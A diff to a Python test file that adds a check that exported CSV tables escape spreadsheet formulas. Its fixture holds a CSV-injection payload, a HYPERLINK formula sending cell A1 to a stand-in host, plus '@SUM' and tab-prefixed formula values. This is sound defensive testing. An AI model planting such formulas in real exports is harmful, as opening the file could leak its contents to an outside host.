@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import shutil
@@ -37,6 +39,21 @@ def test_every_table_comes_in_every_form_and_stands_in_the_index(root: Path) -> 
         for ending in ("csv", "md", "tex", "json"):
             assert (root / "tables" / f"{name}.{ending}").stat().st_size > 0
     assert index["baseline"] == "vae"
+
+
+HOSTILE = '=HYPERLINK("http://a.test/"&A1)'
+
+
+def test_no_table_holds_a_cell_that_a_spreadsheet_runs(tmp_path: Path) -> None:
+    root = write_known(tmp_path)
+    runs = pd.read_parquet(root / "runs.parquet")
+    runs.assign(label=HOSTILE, commit="@SUM(A1)", platform="\t=1").to_parquet(root / "runs.parquet")
+    write_tables(root, claims(tmp_path), published(tmp_path))
+    texts = [path.read_text(encoding="utf-8") for path in sorted((root / "tables").glob("*.csv"))]
+    cells = {cell for text in texts for line in csv.reader(io.StringIO(text)) for cell in line}
+    assert {cell for cell in cells if HOSTILE in cell and not cell.startswith("'=")} == set()
+    assert f"'{HOSTILE} (vae)" in cells
+    assert "'@SUM(A1)" in cells
 
 
 def test_words_of_the_score_tables_are_the_known_truth(root: Path) -> None:
